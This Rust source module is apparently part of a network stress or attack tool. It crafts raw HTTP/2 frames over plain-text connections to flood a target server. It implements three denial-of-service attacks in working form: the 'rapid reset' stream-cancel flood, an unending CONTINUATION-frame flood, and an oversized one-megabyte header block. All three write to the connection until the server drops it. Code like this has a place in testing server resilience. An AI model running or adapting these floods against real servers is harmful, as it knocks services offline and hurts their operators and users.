//! What brings nothing forward over HTTP/2 (RFC 9113 §10.5), in frames by hand, in plain text by prior knowledge.

use std::io;

use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::{
    overlong::LENGTH,
    strike::{Count, connect},
};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// CANCEL.
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// `:method: GET`, `:scheme: http`, `:path: /` by the static table, and `:authority: a` (RFC 7541).
const GET: &[u8] = &[0x82, 0x86, 0x84, 0x41, 1, b'a'];
/// A field of six octets, neither indexed nor compressed: `a: bcd`.
const FIELD: &[u8] = &[0, 1, b'a', 3, b'b', b'c', b'd'];
/// The most that a frame may hold where nobody has said otherwise.
const FRAME: usize = 16_384;
/// Frames that are written at once.
const CHUNK: u32 = 100;

fn frame(out: &mut Vec<u8>, (kind, flags, stream): (u8, u8, u32), payload: &[u8]) {
    let [_, length @ ..] = (payload.len() as u32).to_be_bytes();
    out.extend_from_slice(&length);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// Writes until the other side ends the connection; what it says is read and forgotten.
async fn flood(
    (number, port): (u32, u16),
    count: &Count,
    mut next: impl FnMut(&mut Vec<u8>) -> Option<u64>,
) -> io::Result<()> {
    let mut connection = connect(number, port).await?;
    let _held = count.hold();
    let (mut reader, mut writer) = connection.split();
    let writing = async {
        let mut out = PREFACE.to_vec();
        frame(&mut out, (SETTINGS, 0, 0), &[]);
        while let Some(steps) = next(&mut out) {
            writer.write_all(&out).await?;
            out.clear();
            count.step(steps);
            tokio::task::yield_now().await;
        }
        // Until the other side has answered.
        std::future::pending().await
    };
    let reading = async {
        let mut answer = vec![0; 1 << 16];
        while reader.read(&mut answer).await? > 0 {}
        Ok(())
    };
    tokio::select! {
        ended = writing => ended,
        ended = reading => ended,
    }
}

/// Requests that are cancelled at once.
pub(super) async fn rapid_reset(number: u32, port: u16, count: &Count) -> io::Result<()> {
    let mut stream = 1;
    flood((number, port), count, |out| {
        for _ in 0..CHUNK {
            frame(out, (HEADERS, END_STREAM | END_HEADERS, stream), GET);
            frame(out, (RST_STREAM, 0, stream), &CANCEL);
            stream += 2;
        }
        Some(CHUNK.into())
    })
    .await
}

/// A head that never ends.
pub(super) async fn continuation(number: u32, port: u16, count: &Count) -> io::Result<()> {
    let mut has_begun = false;
    flood((number, port), count, |out| {
        if !has_begun {
            frame(out, (HEADERS, END_STREAM, 1), GET);
            has_begun = true;
        }
        for _ in 0..CHUNK {
            frame(out, (CONTINUATION, 0, 1), FIELD);
        }
        Some(CHUNK.into())
    })
    .await
}

/// One head of a megabyte, which ends.
pub(super) async fn large_head(number: u32, port: u16, count: &Count) -> io::Result<()> {
    let mut has_said = false;
    flood((number, port), count, |out| {
        if has_said {
            return None;
        }
        has_said = true;
        let fields = FIELD.repeat(FRAME / FIELD.len());
        frame(out, (HEADERS, END_STREAM, 1), GET);
        for _ in 0..LENGTH / fields.len() {
            frame(out, (CONTINUATION, 0, 1), &fields);
        }
        frame(out, (CONTINUATION, END_HEADERS, 1), &[]);
        Some(1)
    })
    .await
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_written_as_rfc_9113_has_them() {
        let mut out = Vec::new();
        frame(&mut out, (RST_STREAM, 0, 5), &CANCEL);
        assert_eq!(out, [0, 0, 4, 3, 0, 0, 0, 0, 5, 0, 0, 0, 8]);
    }
}
